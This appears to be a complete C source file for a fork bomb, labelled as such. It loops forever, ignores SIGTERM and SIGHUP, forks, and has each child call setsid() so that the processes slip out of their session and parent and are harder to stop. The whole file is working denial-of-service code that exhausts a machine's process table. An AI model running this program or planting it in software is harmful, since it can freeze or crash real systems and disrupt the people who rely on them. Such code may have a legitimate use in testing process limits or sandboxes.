// SPDX-License-Identifier: Apache-2.0
// A fork bomb whose processes leave their session and their parent.
#include <signal.h>
#include <unistd.h>

int main(void) {
  for (;;) {
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    if (fork() == 0) setsid();
  }
}
